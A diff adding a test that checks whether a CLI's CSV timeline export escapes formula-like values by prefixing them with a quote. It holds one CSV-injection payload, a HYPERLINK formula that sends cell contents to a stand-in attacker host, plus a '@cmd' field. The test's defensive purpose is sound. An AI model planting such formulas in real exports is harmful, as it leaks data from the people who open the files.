@@ -92,6 +92,23 @@ def test_csv_has_the_subagent_log_columns_and_start_end_lines(run_cli, store, se
     assert ["END", 'research:심화, "quoted"', "1.000000"] in [line[1:4] for line in lines]
 
 
+def test_csv_gives_a_label_that_a_spreadsheet_would_run_as_a_formula_as_text(run_cli, store, settings):
+    runs.start_run(store, settings, "robot", {})
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+    with store.transaction() as cursor:
+        cursor.execute(
+            "INSERT INTO node_log (agent, thread_id, run_id, node, task_id, step, label, started_at, ended_at,"
+            " status, error) VALUES ('robot', 'hitl_demo', 'csv-run', 'research', 't-1', -1, ?, 10.0, 11.5,"
+            " 'error', '@cmd')",
+            (formula,),
+        )
+    result = run_cli("timeline", "hitl_demo", "--run", "csv-run", "--csv")
+    assert result.code == 0, result.err
+    [start, end] = list(csv.DictReader(io.StringIO(result.out)))
+    assert (start["label"], end["label"], end["error"]) == ("'" + formula, "'" + formula, "'@cmd")
+    assert (end["step"], end["duration_sec"]) == ("-1", "1.500000")
+
+
 def test_thread_without_node_calls_says_so(run_cli, store):
     # A thread that exists only as checkpoints (written by the saver directly, no node log).
     graph = runtime.graph(store, "robot")
